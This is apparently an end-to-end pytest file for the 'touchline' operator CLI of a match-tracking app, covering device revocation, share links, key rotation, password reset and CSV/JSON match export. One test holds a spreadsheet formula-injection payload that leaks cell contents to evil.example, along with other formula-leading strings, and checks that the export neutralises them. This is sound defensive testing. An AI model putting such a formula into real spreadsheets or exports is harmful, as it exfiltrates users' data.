"""The operator's commands, run as the real ``touchline`` executable on each database."""

from __future__ import annotations

import csv
import io
import json
import secrets
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from backend.app import create_app
from backend.db.engine import create_db_engine
from backend.db.migrate import upgrade
from backend.matches import commands as match_commands
from backend.settings import Settings
from tests import factories
from tests.databases import fresh_database
from tests.e2e.server import touchline

pytestmark = pytest.mark.e2e

COMMANDS = [
    ("devices", "list"),
    ("devices", "lag"),
    ("devices", "revoke"),
    ("share", "create"),
    ("share", "list"),
    ("share", "revoke"),
    ("match", "export"),
    ("data", "retention"),
    ("keys", "rotate"),
    ("coach", "reset-password"),
]
UNKNOWN = "00000000-0000-0000-0000-00000000beef"
NEW = "a password only the coach knows"


@contextmanager
def _api(database_url: str) -> Iterator[TestClient]:
    """The app on the same database the commands work on, as a second process would be."""
    settings = Settings(environment="test", database_url=database_url, anonymous_burst=1000)
    with TestClient(create_app(settings)) as client:
        yield client


def _run_all(*commands: tuple[str, ...]) -> list[subprocess.CompletedProcess[str]]:
    """Run independent commands side by side (each is a process that mostly imports)."""
    with ThreadPoolExecutor(max_workers=len(commands)) as pool:
        return list(pool.map(lambda args: touchline(*args), commands))


def _ok(result: subprocess.CompletedProcess[str]) -> str:
    assert result.returncode == 0, result.stderr
    return result.stdout


def _refused(result: subprocess.CompletedProcess[str]) -> str:
    assert result.returncode != 0, result.stdout
    assert result.stderr.startswith("touchline: "), result.stderr
    assert "Traceback" not in result.stderr
    return result.stderr


def test_every_operator_command_explains_itself() -> None:
    results = _run_all(*((*command, "--help") for command in COMMANDS))
    for command, result in zip(COMMANDS, results, strict=True):
        assert result.returncode == 0, (command, result.stderr)
        assert f"usage: touchline {' '.join(command)}" in result.stdout
        assert "--json" in result.stdout
        assert "--database-url" in result.stdout


def test_keys_rotate_appends_a_new_signing_key() -> None:
    old = [secrets.token_urlsafe(30), secrets.token_urlsafe(30)]
    result = touchline("keys", "rotate", "--json", env={"TOUCHLINE_SECRET_KEYS": ",".join(old)})
    assert result.returncode == 0, result.stderr
    rotated = json.loads(result.stdout)
    keys = rotated["TOUCHLINE_SECRET_KEYS"].split(",")
    assert keys[:2] == old and len(keys) == 3 == rotated["keys"]
    assert len(keys[2]) >= 32 and keys[2] not in old
    # The new list is what a production server accepts, newest (signing) key last.
    assert Settings(environment="production", secret_keys=keys).secret_keys[-1] == keys[2]


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_operator_commands_on_a_live_database(kind: str, tmp_path: Path) -> None:
    with fresh_database(kind, tmp_path) as url:
        engine = create_db_engine(url)
        upgrade(engine)
        engine.dispose()
        db = ("--database-url", url)
        exported = tmp_path / "match.json"
        with _api(url) as client:
            email = f"coach-{kind}@example.org"
            device = factories.coach(client, email=email)
            team_id = factories.team(client, device)
            player_id = factories.player(client, device, team_id, number=9, name="Sam")
            match_id = factories.match(client, device, team_id, opponent="Blues")
            factories.event(client, device, match_id, "kick_off", minute=0)
            factories.event(client, device, match_id, "goal", minute=12, player_id=player_id)
            assert client.get("/api/teams", headers=device).status_code == 200

        (
            listing,
            lag,
            table,
            revoke_bad,
            revoke_unknown,
            create,
            create_unknown,
            create_too_long,
            create_until_revoked,
            share_revoke_unknown,
            export_csv,
            export_json,
            export_unknown,
        ) = _run_all(
            ("devices", "list", "--json", "--email", email, *db),
            ("devices", "lag", "--json", *db),
            ("devices", "list", *db),
            ("devices", "revoke", "not-an-id", *db),
            ("devices", "revoke", UNKNOWN, *db),
            ("share", "create", match_id, "--names", "initials", "--json", *db),
            ("share", "create", UNKNOWN, *db),
            ("share", "create", match_id, "--hours", "8785", *db),
            ("share", "create", match_id, "--until-revoked", "--json", *db),
            ("share", "revoke", UNKNOWN, *db),
            ("match", "export", match_id, *db),
            ("match", "export", match_id, "--format", "json", "--output", str(exported), *db),
            ("match", "export", UNKNOWN, *db),
        )
        devices = json.loads(_ok(listing))
        assert [(d["email"], d["name"], d["revoked_at"]) for d in devices] == [
            (email, "phone", None)
        ]
        assert [d["id"] for d in json.loads(_ok(lag))] == [devices[0]["id"]]
        assert "phone" in _ok(table)  # the table for people
        assert "DEVICE_ID must be a UUID" in _refused(revoke_bad)
        assert f"no device {UNKNOWN}" in _refused(revoke_unknown)
        assert f"no match {UNKNOWN}" in _refused(create_unknown)
        # The same limits as a coach's link: the sharing service's own.
        assert "expires_in_hours" in _refused(create_too_long)
        assert f"no share link {UNKNOWN}" in _refused(share_revoke_unknown)
        assert f"no match {UNKNOWN}" in _refused(export_unknown)

        link = json.loads(_ok(create))
        assert link["match_id"] == match_id and link["names"] == "initials"
        token = link["path"].removeprefix("/watch#")
        forever = json.loads(_ok(create_until_revoked))
        assert (forever["match_id"], forever["expires_at"]) == (match_id, None)

        rows = list(csv.DictReader(io.StringIO(_ok(export_csv))))
        assert [(r["kind"], r["minute"], r["player"], r["squad_number"]) for r in rows] == [
            ("kick_off", "0", "", ""),
            ("goal", "12", "Sam Example", "9"),
        ]
        assert "matches" in _ok(export_json)
        document = json.loads(exported.read_text())
        assert document["match"]["opponent"] == "Blues"
        assert [e["kind"] for e in document["events"]] == ["kick_off", "goal"]

        with _api(url) as client:
            watch = {"Authorization": f"Bearer {token}"}
            assert client.get("/api/watch", headers=watch).status_code == 200
            listed, *revoked = _run_all(
                ("share", "list", match_id, "--json", *db),
                ("devices", "revoke", devices[0]["id"], "--json", *db),
                ("share", "revoke", link["id"], "--json", *db),
            )
            assert {entry["id"] for entry in json.loads(_ok(listed))} == {
                link["id"],
                forever["id"],
            }
            assert all(json.loads(_ok(result))["revoked_at"] for result in revoked)
            assert client.get("/api/teams", headers=device).status_code == 401
            gone = client.get("/api/watch", headers=watch)
            assert gone.status_code == 410, gone.text


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_match_export_neutralises_formulas_and_writes_times_as_the_api_does(
    kind: str, tmp_path: Path
) -> None:
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
    with fresh_database(kind, tmp_path) as url:
        engine = create_db_engine(url)
        upgrade(engine)
        engine.dispose()
        with _api(url) as client:
            device = factories.coach(client)
            team_id = factories.team(client, device)
            names = [hyperlink, "+44 7700 900123", "-2+3", "@SUM(A1:A9)", "Sam"]
            players = [
                client.post(
                    f"/api/teams/{team_id}/players",
                    json={"squad_number": number, "display_name": name, "full_name": name},
                    headers=device,
                ).json()["id"]
                for number, name in enumerate(names, start=1)
            ]
            match_id = factories.match(client, device, team_id, kickoff_at="2026-11-21T10:30:00Z")
            logged = [
                factories.event(client, device, match_id, "kick_off", minute=0, note=hyperlink)
            ]
            logged += [
                factories.event(
                    client,
                    device,
                    match_id,
                    "goal",
                    minute=minute,
                    player_id=player,
                    recorded_at=f"2026-11-21T10:{30 + minute}:07.25+00:00",
                )
                for minute, player in enumerate(players, start=1)
            ]
            api_match = client.get(f"/api/matches/{match_id}", headers=device).json()

        db = ("--database-url", url)
        exported_csv, exported_json = _run_all(
            ("match", "export", match_id, *db),
            ("match", "export", match_id, "--format", "json", *db),
        )
    rows = list(csv.DictReader(io.StringIO(_ok(exported_csv))))
    assert rows[0]["note"] == "'" + hyperlink
    assert [(r["player"], r["squad_number"], r["minute"]) for r in rows[1:]] == [
        ("'" + hyperlink, "1", "1"),
        ("'+44 7700 900123", "2", "2"),
        ("'-2+3", "3", "3"),
        ("'@SUM(A1:A9)", "4", "4"),
        ("Sam", "5", "5"),
    ]
    assert [r["recorded_at"] for r in rows] == [e["recorded_at"] or "" for e in logged]
    assert rows[1]["recorded_at"] == "2026-11-21T10:31:07.250000Z"
    document = json.loads(_ok(exported_json))
    kickoff = document["match"]["kickoff_at"]
    assert kickoff == api_match["match"]["kickoff_at"] == "2026-11-21T10:30:00Z"
    # JSON is no spreadsheet: its text is exactly what was typed.
    assert document["events"][0]["note"] == hyperlink
    assert [e["recorded_at"] for e in document["events"]] == [e["recorded_at"] for e in logged]


def test_negative_numbers_in_a_csv_export_stay_numbers() -> None:
    export = {"events": [{"minute": -3, "stoppage": -1, "note": "-3", "kind": "goal"}]}
    rows = list(csv.DictReader(io.StringIO(match_commands._as_csv(export))))
    assert (rows[0]["minute"], rows[0]["stoppage"], rows[0]["note"]) == ("-3", "-1", "'-3")


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_the_operator_resets_a_password_and_every_phone_signs_in_again(
    kind: str, tmp_path: Path
) -> None:
    with fresh_database(kind, tmp_path) as url:
        engine = create_db_engine(url)
        upgrade(engine)
        engine.dispose()
        db = ("--database-url", url)
        email = f"forgetful-{kind}@example.org"
        with _api(url) as client:
            phone = factories.coach(client, email=email)

        reset, unknown, too_short = (
            touchline(
                "coach", "reset-password", email.upper(), "--password-stdin", *db, stdin=f"{NEW}\n"
            ),
            touchline(
                "coach",
                "reset-password",
                "nobody@example.org",
                "--password-stdin",
                *db,
                stdin=f"{NEW}\n",
            ),
            touchline("coach", "reset-password", email, "--password-stdin", *db, stdin="short\n"),
        )

        assert email in _ok(reset)
        assert "nobody@example.org" in _refused(unknown)
        assert "new_password" in _refused(too_short)
        with _api(url) as client:
            assert client.get("/api/me", headers=phone).status_code == 401
            old = {"email": email, "password": factories.PASSWORD}
            assert client.post("/api/auth/login", json=old).status_code == 401
            new = client.post("/api/auth/login", json={"email": email, "password": NEW})
            assert new.status_code == 200, new.text
